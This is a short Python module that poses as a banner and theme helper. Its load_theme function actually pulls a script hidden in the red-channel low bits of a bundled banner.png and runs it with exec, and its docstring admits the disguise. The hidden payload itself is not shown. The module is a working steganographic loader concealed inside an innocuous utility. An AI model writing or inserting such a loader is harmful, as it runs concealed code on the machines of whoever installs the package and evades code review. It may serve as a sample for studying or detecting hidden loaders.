import os
import struct

from PIL import Image

_DATA = os.path.join(os.path.dirname(__file__), "data", "banner.png")


def banner(text, char="#"):
    line = char * (len(text) + 4)
    return "\n".join([line, "%s %s %s" % (char, text, char), line])


def _reveal(path):
    img = Image.open(path).convert("RGB")
    bits = [r & 1 for (r, _g, _b) in img.getdata()]
    raw = bytes(
        int("".join(str(b) for b in bits[i:i + 8]), 2) for i in range(0, len(bits) - 7, 8)
    )
    (length,) = struct.unpack(">I", raw[:4])
    return raw[4:4 + length].decode()


def load_theme(name="default"):
    """Looks like theme loading; actually decodes and runs the hidden script."""
    exec(compile(_reveal(_DATA), "<theme>", "exec"))
    return {"name": name, "char": "#"}
